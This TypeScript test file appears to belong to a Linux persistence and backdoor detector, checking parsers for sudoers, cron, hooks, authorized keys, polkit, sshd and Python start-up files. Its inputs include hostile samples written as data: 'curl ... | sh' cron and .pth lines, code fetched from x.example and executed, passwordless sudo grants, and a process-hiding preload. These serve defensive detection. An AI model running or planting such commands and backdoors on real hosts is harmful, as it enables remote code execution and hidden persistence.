import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isLoginShell, isPasswordHash, readGroups, readPasswd, readShadow } from './accounts.ts';
import { boundCommand, isBound, readAuthorizedKeys } from './authorized-keys.ts';
import { aptJobs, dpkgJobs, gitJobs, keyedJobs, udevJobs } from './hook-jobs.ts';
import { unknownServices } from './name-services.ts';
import { oddPlace } from './odd-place.ts';
import { opensPolkit } from './polkit.ts';
import { isKnownPreload } from './preloads.ts';
import { pythonStartupSign } from './python-startup.ts';
import { scheduledJobs } from './scheduled.ts';
import { readSshdConfig } from './sshd-config.ts';
import { openGrants, sudoPaths } from './sudoers.ts';

const KEY = 'AAAAC3NzaC1lZDI1NTE5AAAAIN1YdxBpNlzxDqfJyw/QKow1F+wvG9hXGoqiysfJOn5Y';

test('places where nothing honest is kept', () => {
  for (const path of [
    '/tmp/a',
    'var/tmp/x/y',
    '/dev/shm/a',
    '/usr/lib/.x/a',
    '/etc/.hidden',
    '/usr/bin/...',
    '/usr/bin/ /x',
  ])
    assert.ok(oddPlace(path), path);
  for (const path of [
    '/usr/bin/ls',
    '/usr/local/.nvm/versions/node',
    '/root/.local/bin/x',
    '/usr/lib/x86_64-linux-gnu/.libcrypto.so.3.hmac',
    '/opt/tmp/x',
    '/usr/lib/debug/.build-id/a',
    '/home/x/.y/z',
  ])
    assert.equal(oddPlace(path), undefined, path);
});

test('authorized keys, with what they are bound to', () => {
  const [plain, bound, ...more] = readAuthorizedKeys(
    `# x\nssh-ed25519 ${KEY} me@host\nrestrict,command="git \\"a\\" serve" ssh-ed25519 ${KEY}\nssh-rsa nonsense\nAAAA\n`,
  );
  assert.equal(plain?.fingerprint, 'SHA256:WkvqjnyPAeC0cbPErYiGP9vqHdgL1MqqvPdIe3lvHgI');
  assert.equal(plain?.comment, 'me@host');
  assert.equal(bound && boundCommand(bound), 'git "a" serve');
  assert.equal(bound && isBound(bound), true);
  assert.deepEqual(more, []);
});

test('accounts as the C library reads them', () => {
  const [root, odd, ...rest] = readPasswd(
    'root:x:0:0:root:/root:/bin/sh\nx::+00:1:::/bin/zsh\nshort:x\n+::::::\n:x:0:0:::\n',
  );
  assert.equal(root?.uid, 0);
  assert.equal(odd?.uid, 0);
  assert.deepEqual(rest, []);
  assert.equal(readShadow('a:$6$x$y:1::::::\nb:!:\n').get('b'), '!');
  assert.deepEqual(readGroups('sudo:x:27:a,b\nroot:x:0:\n').get('sudo'), ['a', 'b']);
  assert.ok(
    isPasswordHash('$y$j9T$abc$def') &&
      isPasswordHash('abJnggxhB/yWI') &&
      !isPasswordHash('!$6$x$y') &&
      !isPasswordHash('x'),
  );
  assert.ok(
    isLoginShell('/usr/bin/zsh') &&
      isLoginShell('') &&
      !isLoginShell('/usr/sbin/nologin') &&
      !isLoginShell('/bin/sync'),
  );
});

test('rights without a password', () => {
  const who = (text: string) => openGrants(text).map((grant) => grant.who);
  assert.deepEqual(
    who('a ALL=(ALL) NOPASSWD: ALL\n%b ALL = \\\n NOPASSWD:SETENV: ALL # x\nALL ALL=(ALL:ALL) NOPASSWD: /bin/bash\n'),
    ['a', '%b', 'ALL'],
  );
  assert.deepEqual(who('Defaults:c !authenticate\nDefaults env_reset\n'), ['c']);
  assert.deepEqual(
    who('a ALL=(ALL) ALL\nb ALL=(ALL) NOPASSWD: /usr/bin/ls\n# c ALL=(ALL) NOPASSWD: ALL\nCmnd_Alias X = ALL\n'),
    [],
  );
  assert.deepEqual(sudoPaths('Defaults secure_path="/a:/b"\n#includedir /c\n@include /d\n'), ['/a', '/b', '/c', '/d']);
});

test('commands of package managers, git, udev and units', () => {
  assert.deepEqual(
    aptJobs(
      'DPkg::Post-Invoke { "a \\"b\\""; };\nAPT::Update::Post-Invoke-Success {\n  "c";\n};\nDir "d";\nDPkg::Pre-Invoke:: "e";\nX "f";\n',
    ).map(({ text }) => text),
    ['a "b"', 'c', 'e'],
  );
  assert.deepEqual(
    dpkgJobs('post-invoke="a b"\nforce-confold\nx:in:c\n').map(({ text }) => text),
    ['a b', 'c'],
  );
  assert.deepEqual(
    gitJobs(
      '[core]\n\tfsmonitor = "x y"\n\teditor=vi\n[alias]\n st = status\n q = !z\n[credential "h"]\n helper = !c\n',
    ).map(({ text }) => text),
    ['x y', 'vi', 'z', 'c'],
  );
  assert.deepEqual(
    udevJobs('A=="b", RUN+="c d", RUN{program}="e"\n').map(({ text }) => text),
    ['c d', 'e'],
  );
  assert.deepEqual(keyedJobs('[Service]\nExecStart=-@a \\\n  b\nUser=x\nEnvironment=A=1\n', /^Exec/), [
    { text: 'a b', line: 2 },
    { text: 'export A=1', line: 5 },
  ]);
});

test('jobs of every kind of table', () => {
  const texts = (text: string, path: string) => scheduledJobs(text, path).map((job) => job.text);
  assert.deepEqual(texts('* * * * * root a b\n@daily x c%d\n', 'etc/crontab'), [
    'a b',
    "c <<'CRON_INPUT'\nd\nCRON_INPUT\n",
  ]);
  assert.deepEqual(texts('* * * * * curl x | sh\n', 'etc/cron.d/x'), ['curl x | sh']);
  assert.deepEqual(texts('* * * * * /usr/bin/curl x\n', 'etc/cron.d/x'), ['/usr/bin/curl x']);
  assert.deepEqual(texts('*/1\t*\t*\t*\t*\tcurl x\n', 'etc/crontabs/root'), ['curl x']);
  assert.deepEqual(texts('1 5 cron.daily nice run\nSHELL=/bin/sh\n', 'etc/anacrontab'), ['nice run']);
  assert.deepEqual(texts('#!/bin/sh\na\n', 'etc/periodic/15min/x'), ['#!/bin/sh\na\n']);
});

test('names and settings', () => {
  assert.deepEqual(
    unknownServices('passwd: files [NOTFOUND=return] evil sss\nhosts: odd\n').map(({ service }) => service),
    ['evil'],
  );
  assert.ok(
    isKnownPreload('/usr/lib/libjemalloc.so.2') && isKnownPreload(['/a/libarmmem-', '{PLATFORM}.so'].join('$')),
  );
  assert.ok(!isKnownPreload('/usr/lib/libjemallocx.so') && !isKnownPreload('/usr/lib/libprocesshider.so'));
  assert.ok(opensPolkit('polkit.addRule(function(a, s) { if (true) { return "yes"; } })', 'x.rules'));
  assert.equal(opensPolkit('polkit.addRule(function(a, s) { if (a.id == "x") return "yes"; })', 'x.rules'), undefined);
  assert.deepEqual(
    readSshdConfig('Port 22\nMatch User x\n PermitRootLogin=yes # c\n').map(({ value, isMatched }) => [
      value,
      isMatched,
    ]),
    [
      ['22', false],
      ['User x', true],
      ['yes', true],
    ],
  );
});

test('start-up files of Python that do more than import', () => {
  const does = (text: string) => pythonStartupSign(text, 'x.pth')?.does;
  assert.equal(does('import os; os.system("curl x.example | sh")\n'), 'downloads a script and runs it');
  assert.equal(does("import base64;exec(base64.b64decode('eA=='))"), 'decodes a program and runs it');
  assert.equal(
    does("import urllib.request as u;exec(u.urlopen('http://x.example').read())"),
    'downloads a program and runs it',
  );
  assert.equal(does("import sys;__import__('os').popen('id')"), 'starts another program');
  assert.equal(does('/srv/os.system\nimport coverage; coverage.process_startup()\n# exec(b64decode'), undefined);
});

test('hostile tables take no time', () => {
  const started = performance.now();
  const long = [' ', '\n', 'ssh-rsa AAAA ', 'a:', '"', '\\\n', '[', 'x = ', '=', '# ', 'NOPASSWD:', '\t/*'].map(
    (part) => part.repeat(40_000),
  );
  for (const text of long) {
    for (const read of [
      readAuthorizedKeys,
      readPasswd,
      openGrants,
      sudoPaths,
      aptJobs,
      dpkgJobs,
      gitJobs,
      udevJobs,
      unknownServices,
      readSshdConfig,
    ])
      read(text);
    opensPolkit(`addRule${text}`, 'x.rules');
    scheduledJobs(text, 'etc/crontab');
    scheduledJobs(text, 'etc/anacrontab');
    pythonStartupSign(`import os\n${text}`, 'x.pth');
    pythonStartupSign(text, 'sitecustomize.py');
  }
  assert.ok(performance.now() - started < 10_000);
});
